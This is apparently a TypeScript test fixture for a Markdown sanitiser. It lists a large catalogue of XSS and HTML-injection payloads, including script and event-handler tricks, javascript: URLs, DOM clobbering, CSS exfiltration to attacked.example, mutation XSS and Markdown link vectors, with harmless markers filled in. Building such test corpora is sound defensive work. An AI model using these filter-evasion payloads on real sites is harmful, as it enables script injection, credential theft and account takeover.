/** Markdown that a hostile writer might post. A script that runs sets `window.attacked`; a request that leaves asks for `/attacked/<name>`. */
export interface Attack {
  name: string;
  markdown: string;
}

// JS, URL and REMOTE stand for the script and the addresses that name the attack.
// Sources: OWASP's XSS filter evasion list, the test suites of sanitisers, and the grammar of Markdown itself.
const scripts = {
  'script-plain': '<script>JS</script>',
  'script-case': 'x <ScRiPt>JS</sCrIpT>',
  'script-src': 'x <script src="URL"></script>',
  'script-src-slashes': '<script src="//attacked.example/attacked/NAME"></script>',
  'script-module': '<script type=module>import "REMOTE"</script>',
  'script-slash': '<div><script/x src="URL">JS</script x></div>',
  'script-line-break': '<script\n>JS</script\n>',
  'script-nul': '<div><scr\0ipt>JS</scr\0ipt><script\0>JS</script></div>',
  'script-in-script': 'x <scr<script>ipt>JS</scr</script>ipt>',
  'script-two-brackets': 'x <<script>JS//<</script>',
  'script-unclosed': 'x <script>JS',
  'script-behind-comment': '<!--><script>JS</script>-->',
  'script-behind-cdata': 'x <![CDATA[><script>JS</script>]]>',
  'script-behind-instruction': '<?x ?><script>JS</script>',
  'script-behind-page-end': '</div></main></body></html><script>JS</script>',
  'script-conditional-comment': '<!--[if gte IE 4]><script>JS</script><![endif]-->',
  'script-utf-7': '+ADw-script+AD4-JS+ADw-/script+AD4-',
};
const handlers = {
  'handler-image': '<img src=x onerror="JS">',
  'handler-slashes': '<div><img/src=x/onerror=JS//></div>',
  'handler-case': '<IMG SRC=x OnErRoR="JS">',
  'handler-form-feed': '<img src=x\fonerror="JS">',
  'handler-entities': 'x <img src=x onerror="&#119;indow.attacked&equals;1">',
  'handler-quotes': '<div><img """><script>JS</script>"></div>',
  'handler-backquotes': '<div><img src=`x` onerror=`JS`><img src=`x`onerror=JS></div>',
  'handler-image-alias': '<image src=x onerror="JS">',
  'handler-body': '<body onload="JS"><div onload="JS" onclick="JS">x</div>',
  'handler-details': '<details open ontoggle="JS">x</details>',
  'handler-focus': 'x <input autofocus onfocus="JS"><a href="#x" autofocus onfocus="JS">y</a>',
  'handler-media': '<video><source onerror="JS"></video><audio src=x onerror="JS">',
  'handler-marquee': 'x <marquee onstart="JS">y</marquee>',
  'handler-animation': '<style>@keyframes x{}</style><p style="animation:x" onanimationstart="JS">y</p>',
  'handler-click': '<a href="#x" onclick="JS">x</a> <p onmouseover="JS">y</p>',
};
const addresses = {
  'address-script': '<a href="javascript:JS">x</a>',
  'address-case': '<a href="JaVaScRiPt:JS">x</a>',
  'address-control': '<a href="&#1; javascript:JS">x</a>',
  'address-tab': '<a href="jav&Tab;ascript:JS">x</a> <a href="jav\tascript:JS">y</a>',
  'address-line-break': '<a href="java&NewLine;script&colon;JS">x</a> <a href="java&#13;script:JS">y</a>',
  'address-decimal':
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105pt:JS">x</a>',
  'address-hexadecimal': '<a href="&#x6A&#x61&#x76&#x61&#x73;cript:JS">x</a>',
  'address-vbscript': '<a href="vbscript:JS">x</a> <a href="livescript:JS">y</a>',
  'address-data':
    '<a href="data:text/html,<script>JS</script>">x</a> <a href="DATA:text/html;base64,PHNjcmlwdD4=">y</a>',
  'address-wrapped': '<a href="view-source:javascript:JS">x</a> <a href="feed:javascript:JS">y</a>',
  'address-blob-file': '<a href="blob:https://x/y">x</a> <a href="file:///etc/passwd">y</a>',
  'address-other-attributes': '<a xlink:href="javascript:JS" ping="URL" target=_top download>x</a>',
  'address-cite': '<blockquote cite="javascript:JS">x</blockquote><q cite="URL">y</q>',
  'address-image':
    '<img src="javascript:JS"><img src="vbscript:JS"><img src="data:image/svg+xml,<svg onload=JS>">',
  'address-image-sets':
    '<img src="URL" srcset="REMOTE 2x" lowsrc="URL" dynsrc="URL" longdesc="javascript:JS">',
  'address-media':
    '<video poster="URL" src="URL"><track src="URL"></video><audio src="URL"></audio><bgsound src="URL">',
  'address-picture': '<picture><source srcset="REMOTE"><img src="REMOTE"></picture>',
  'address-background': '<table background="URL"><tr><td background="javascript:JS">x</table>',
  'address-map': '<map name=m><area href="javascript:JS"></map><img usemap="#m" src="URL">',
};
const clobbering = {
  'clobber-id': '<p id="main">x</p><a id="search" name="search">y</a>',
  'clobber-document':
    '<img name=body><form name=getElementById></form><form id=x><input name=attributes></form>',
  'clobber-pair': '<a id=config><a id=config name=url href="javascript:JS">',
  'clobber-class':
    '<div class="visually-hidden skip-link" data-pagefind-body data-pagefind-filter="a:b">x</div>',
  'clobber-heading': '## x {#main .page onclick="JS"}\n\n# main',
  'clobber-footnote': '<h2 id="footnote-label">x</h2><li id="user-content-fn-1">y</li>\n\nz[^1]\n\n[^1]: n',
  'clobber-element': '<site-search action="URL" is="x">x</site-search><slot name=x>y</slot>',
  'clobber-roles':
    '<div role=alert aria-live=assertive tabindex=1 accesskey=s contenteditable hidden popover>x</div>',
};
const styles = {
  'style-element': '<style>body{background:url(URL)}</style>',
  'style-import': '<style>@import "REMOTE";</style>',
  'style-values': '<style>input[value^=a]{background:url(REMOTE)}</style>',
  'style-broken-out': '<style><b></style><img src=x onerror="JS"></style>',
  'style-attribute': '<p style="background:url(URL)">x</p>',
  'style-overlay': '<a href="https://attacked.example" style="position:fixed;inset:0;z-index:9">x</a>',
  'style-expression': '<p style="width:expression(JS);-moz-binding:url(URL)">x</p>',
  'style-sheet': '<link rel=stylesheet href="URL"><link rel=preload as=style href="REMOTE" onload="JS">',
  'style-cell': '<table><tr><td style="text-align: center;background:url(URL)">x</table>',
};
const frames = {
  'frame-script': '<iframe src="javascript:JS"></iframe>',
  'frame-document': '<iframe srcdoc="<script>parent.attacked=1</script>" onload="JS"></iframe>',
  'frame-set': '<frameset><frame src="javascript:JS"></frameset>',
  'frame-object': '<object data="javascript:JS" onerror="JS"><param name=url value="URL"></object>',
  'frame-embed': '<embed src="URL" type="image/svg+xml"><applet codebase="URL" code=x></applet>',
  'frame-portal': '<portal src="URL"></portal><fencedframe src="URL"></fencedframe>',
  'form-action': '<form action="javascript:JS"><button>x</button></form>',
  'form-button':
    '<button formaction="javascript:JS" onclick="JS">x</button><input type=submit formaction="URL" form=x>',
  'form-image': '<input type=image src="URL" onerror="JS"><input type="image" src="javascript:JS">',
  'form-fields':
    '<form action="REMOTE">Password <input type=password name=p autofocus><select><option>x</select></form>',
  'form-dialog':
    '<dialog open>x</dialog><textarea autofocus onfocus="JS">y</textarea><keygen autofocus onfocus="JS">',
  'page-base': '<base href="https://attacked.example/attacked/NAME/">\n\n[x](y)',
  'page-refresh':
    '<meta http-equiv=refresh content="0;url=URL"><meta http-equiv=refresh content="0;javascript:JS">',
  'page-policy':
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=Set-Cookie content=a>',
  'page-links':
    '<link rel=prefetch href="URL"><link rel=manifest href="URL"><link rel=dns-prefetch href="REMOTE">',
};
const foreign = {
  'svg-load': '<div><svg onload="JS"></svg><svg/onload=JS></div>',
  'svg-script': '<svg><script>JS</script><script href="URL" /></svg>',
  'svg-link': '<svg><a xlink:href="javascript:JS"><text y=9>x</text></a></svg>',
  'svg-animate':
    '<svg><a><animate attributeName=href values="javascript:JS"/><text y=9>x</text></a><set onbegin="JS"/></svg>',
  'svg-use':
    '<svg><use href="data:image/svg+xml,<svg id=x>#x"/><image href="URL" /><feImage href="URL" /></svg>',
  'svg-foreign': '<svg><foreignObject><iframe src="javascript:JS"></iframe></foreignObject></svg>',
  'math-link':
    '<math href="javascript:JS"><mtext>x</mtext></math><math><maction xlink:href="javascript:JS">y</maction></math>',
  'math-annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror="JS"></annotation-xml></math>',
};
const mutations = {
  'mutation-noscript': '<noscript><p title="</noscript><img src=x onerror=JS>" onclick="JS"></noscript>',
  'mutation-template':
    '<template><img src=x onerror="JS"></template><template><style></template><img src=x onerror="JS">',
  'mutation-textarea': '<textarea><p title="</textarea><img src=x onerror=JS>">',
  'mutation-raw-text':
    '<xmp><p title="</xmp><img src=x onerror=JS>"></xmp><noembed><img title="</noembed><svg onload=JS>">',
  'mutation-svg-style': '<svg></p><style><a id="</style><img src=x onerror=JS>">',
  'mutation-math-table':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">',
  'mutation-math-form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror="JS">',
  'mutation-cdata': '<svg><![CDATA[><img src=x onerror="JS">]]></svg>',
  'mutation-title': '<b title="</b><script>JS</script>">x</b> <a title="--><img src=x onerror=JS>">y</a>',
  'mutation-select':
    '<select><template><option><img src=x onerror="JS"></template></select><select><style></select><img src=x onerror="JS">',
  'broken-open': '<div><img src=x onerror="JS"',
  'broken-quote': '<div><a href="x title="y onmouseover="JS">z</a></div>',
  'broken-end': '<p>x</p onclick="JS"><//><img src=x onerror="JS" <',
  'broken-comment': '<!-- x --!><img src=x onerror="JS"> <!-- <img src=x onerror="JS">',
  'broken-plaintext': '<table onclick="JS"><tr><plaintext><script>JS</script>',
};
const markdown = {
  'markdown-link': '[x](javascript:JS) [y](JAVASCRIPT:JS) [z](vbscript:JS) [w](data:text/html,x)',
  'markdown-link-entities':
    '[x](java&#115;cript:JS) [y](javascript&colon;JS) [z](&#x6A;avascript:JS) [w](&#1;javascript:JS)',
  'markdown-link-spaces':
    '[x](<java\tscript:JS>) [y](< javascript:JS>) [z](java&Tab;script:JS) [w](<&NewLine;javascript:JS>)',
  'markdown-link-escapes':
    '[x](\\javascript:JS) [y](javascript\\:JS) [z](%6Aavascript:JS) [w](/\\attacked.example)',
  'markdown-link-title':
    '[x](/a "\\" onmouseover=\\"JS") [y](/a \'" onmouseover="JS\') [z](/a (&quot; onclick=&quot;JS))',
  'markdown-link-text': '[<img src=x onerror="JS">](/a) [x <script>JS</script>](/b)',
  'markdown-link-nested':
    '[a [b](javascript:JS) c](javascript:JS) [<javascript:JS>](/a) [![x](javascript:JS)](javascript:JS)',
  'markdown-reference': '[x][r] [r] ![y][r]\n\n[r]: javascript:JS "&quot; onmouseover=&quot;JS"\n[r]: /safe',
  'markdown-reference-lines': '[x]\n\n[x]:\n  <javascript:JS>\n  \'" onmouseover="JS\'',
  'markdown-autolink': '<javascript:JS> <data:text/html,x> <JavaScript&colon;JS> <vbscript:JS>',
  'markdown-autolink-quotes':
    '<https://x.example/"onmouseover="JS> https://x.example/"onmouseover="JS <a"onclick="JS@x.example>',
  'markdown-image':
    '![x](javascript:JS) ![y](REMOTE) ![z](data:image/svg+xml;base64,AAAA) ![w](URL) ![v](//attacked.example/x.png)',
  'markdown-image-text':
    '![" onerror="JS](x.png) ![x](y.png "\\" onload=\\"JS") ![<img src=x onerror=JS>](z.png)',
  'markdown-info-string': '```x"onmouseover="JS\ny\n```\n\n```js"><img/src=x/onerror=JS>\nz\n```',
  'markdown-info-classes':
    '```foo&#32;skip-link&#32;visually-hidden\nx\n```\n\n```constructor\ny\n```\n\n```__proto__\nz\n```',
  'markdown-code':
    '`</code><script>JS</script>`\n\n    </pre><script>JS</script>\n\n```html\n</code></pre><script>JS</script>\n```',
  'markdown-footnote':
    'x[^"onclick="JS] y[^<script>JS</script>]\n\n[^"onclick="JS]: a <script>JS</script>\n[^<script>JS</script>]: b',
  'markdown-blocks':
    '# x <img src=x onerror="JS">\n\n| <script>JS</script> |\n|--|\n| <img src=x onerror="JS"> |\n\n- [ ] <svg onload="JS">',
  'markdown-resumed': '<div onclick="JS">\n\n**x** <img src=x onerror="JS">\n\n</div><script>JS</script>',
  'markdown-escapes': '\\<script>JS</script> &lt;script&gt;JS&lt;/script&gt; &#60;img src=x onerror=JS&#62;',
  'markdown-front-matter': '---\nlayout: x\n---\n\n<!--[if x]--><script>JS</script>',
};

export const attacks: readonly Attack[] = Object.entries({
  ...{
    ...scripts,
    ...handlers,
    ...addresses,
    ...clobbering,
    ...styles,
    ...frames,
    ...foreign,
    ...mutations,
    ...markdown,
  },
}).map(([name, template]) => ({ name, markdown: filledIn(template, name) }));

function filledIn(template: string, name: string): string {
  return template
    .replaceAll('JS', `window.attacked='${name}'`)
    .replaceAll('URL', `/attacked/${name}`)
    .replaceAll('REMOTE', `https://attacked.example/attacked/${name}`)
    .replaceAll('NAME', name);
}
